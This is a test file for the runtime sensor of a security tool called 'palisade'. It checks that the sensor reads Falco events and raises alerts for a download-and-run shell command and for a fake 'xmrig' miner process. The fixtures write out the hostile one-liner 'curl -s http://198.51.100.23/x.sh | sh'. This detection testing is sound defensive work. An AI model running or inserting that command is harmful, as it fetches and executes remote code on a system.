import { spawn } from 'node:child_process';
import { appendFileSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { AppError } from '../src/core/index.js';
import { nodeName, youngGenerationFlag } from '../src/cli/sensor.js';
import { assertBuilt, CLI, runCli } from './support/cli.js';
import { Processes, renamedBinary } from './support/sensor.js';

// `palisade sensor` as a user runs it: the built CLI, a real process, JSON lines on stdout.

const alertLine = z.object({ schemaVersion: z.literal(1), rule: z.string(), message: z.string(), source: z.literal('runtime'), evidence: z.array(z.unknown()) });

describe('palisade sensor (built CLI)', () => {
  let dir = '';
  beforeAll(() => {
    assertBuilt();
    dir = mkdtempSync(join(tmpdir(), 'palisade-sensor-cli-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('reads Falco JSON output and prints runtime alerts as JSON lines', async () => {
    const falco = join(dir, 'falco.jsonl');
    writeFileSync(
      falco,
      [
        JSON.stringify({ time: '2026-11-20T10:00:00Z', hostname: 'node-7', output_fields: { 'evt.type': 'execve', 'proc.name': 'sh', 'proc.pid': 4242, 'proc.cmdline': "sh -c curl -s http://198.51.100.23/x.sh | sh", 'proc.args': "-c 'curl -s http://198.51.100.23/x.sh | sh'", 'container.id': 'host' } }),
        '{broken',
      ].join('\n'),
    );
    const run = await runCli(['sensor', '--once', '--no-proc', '--falco', falco]);
    expect(run.code).toBe(0);
    const alerts = run.stdout.trim().split('\n').map((l) => alertLine.parse(JSON.parse(l)));
    expect(alerts.map((a) => a.rule)).toEqual(['K8S.NODE_DownloadAndRunCombo']);
    expect(alerts[0]?.message).toBe("download piped into a shell in host on node-7: sh -c curl -s http://198.51.100.23/x.sh | sh [sh(4242)]");
    expect(JSON.parse(run.stderr.trim().split('\n').pop() ?? '{}').counters.skipped).toEqual({ 'falco: not JSON': 1 });
  });

  it('follows a Falco output file: events appended while it runs, through a rotation, not the old ones', async () => {
    const falco = join(dir, 'falco-follow.jsonl');
    const event = (pid: number): string =>
      `${JSON.stringify({ time: '2026-11-20T10:00:00Z', hostname: 'node-7', output_fields: { 'evt.type': 'execve', 'proc.name': 'sh', 'proc.pid': pid, 'proc.cmdline': 'sh -c curl -s http://198.51.100.23/x.sh | sh', 'proc.args': "-c 'curl -s http://198.51.100.23/x.sh | sh'", 'container.id': 'host' } })}\n`;
    writeFileSync(falco, event(1001));
    const sensor = spawn(process.execPath, [CLI, 'sensor', '--no-proc', '--falco', falco, '--group-window', '10ms'], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    sensor.stdout.on('data', (c: Buffer) => (out += c.toString()));
    sensor.stderr.on('data', (c: Buffer) => (err += c.toString()));
    const waitFor = async (text: string): Promise<void> => {
      for (let i = 0; i < 300 && !out.includes(text) && !err.includes(text); i++) await new Promise((r) => setTimeout(r, 50));
    };
    try {
      await waitFor('"sensor":"started"');
      expect(err).toContain('"sensor":"started"');
      appendFileSync(falco, event(1002));
      await waitFor('sh(1002)');
      renameSync(falco, `${falco}.1`);
      writeFileSync(falco, event(1003));
      await waitFor('sh(1003)');
    } finally {
      sensor.kill('SIGTERM');
      await new Promise((r) => sensor.once('exit', r));
    }
    const pids = out.trim().split('\n').map((l) => alertLine.parse(JSON.parse(l)).message.match(/sh\((\d+)\)/)?.[1]);
    expect(pids).toEqual(['1002', '1003']);
    expect(sensor.exitCode).toBe(0);
  }, 40_000);

  it('polls /proc and prints an alert for a miner started after it', async () => {
    const p = new Processes();
    const sensor = spawn(process.execPath, [CLI, 'sensor', '--interval', '100ms', '--skip-existing', '--node', 'cli-node'], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    sensor.stdout.on('data', (c: Buffer) => (out += c.toString()));
    sensor.stderr.on('data', (c: Buffer) => (err += c.toString()));
    try {
      for (let i = 0; i < 300 && !err.includes('"sensor":"started"'); i++) await new Promise((r) => setTimeout(r, 50));
      expect(err).toContain('"sensor":"started"');
      expect(err).toContain('"youngGenerationCapped":true');
      const started = Date.now();
      const miner = p.start(renamedBinary(dir, '/usr/bin/sleep', 'xmrig'), ['5']);
      let seenAt = 0;
      while (Date.now() - started < 5000) {
        if (out.includes(`xmrig(${miner.pid})`)) {
          seenAt = Date.now();
          break;
        }
        await new Promise((r) => setTimeout(r, 20));
      }
      // Seen at all; how soon is bench/sensor.mjs's figure (detection latency), not a test's.
      expect(seenAt).toBeGreaterThan(0);
      const alert = out.trim().split('\n').map((l) => alertLine.parse(JSON.parse(l))).find((a) => a.message.includes(`xmrig(${miner.pid})`));
      expect(alert?.rule).toBe('K8S.NODE_CryptoCoinMinerArtifacts');
    } finally {
      sensor.kill('SIGTERM');
      await new Promise((r) => sensor.once('exit', r));
      await p.cleanup();
    }
  }, 40_000);
});

describe('palisade sensor settings', () => {
  it.each([
    [{ nodeName: 'worker-1' }, { NODE_NAME: 'worker-2' }, 'worker-1'],
    [{ node: 'worker-1' }, { NODE_NAME: 'worker-2' }, 'worker-1'],
    [{ nodeName: 'worker-1', node: 'worker-1' }, {}, 'worker-1'],
    [{}, { NODE_NAME: 'worker-2' }, 'worker-2'],
    [{}, { NODE_NAME: '  ' }, 'the-host'],
    [{}, {}, 'the-host'],
  ])('node name from %o and env %o is %s', (flags, env, expected) => {
    expect(nodeName(flags, env, 'the-host')).toBe(expected);
  });

  it('refuses two different node names', () => {
    expect(() => nodeName({ nodeName: 'a', node: 'b' }, {}, 'h')).toThrow(new AppError('BAD_INPUT', '--node-name a and --node b differ: give one of them'));
  });

  it.each([
    [[], undefined, '--semi-space-growth-factor=1'],
    [['--max-semi-space-size=4'], undefined, undefined],
    [[], '--max-old-space-size=96 --max_semi_space_size=2', undefined],
    [[], '--semi-space-growth-factor=2', undefined],
    [['--inspect'], '--max-old-space-size=96', '--semi-space-growth-factor=1'],
  ])('young generation: node %o, NODE_OPTIONS %s → %s', (execArgv, nodeOptions, expected) => {
    expect(youngGenerationFlag(execArgv, nodeOptions)).toBe(expected);
  });
});
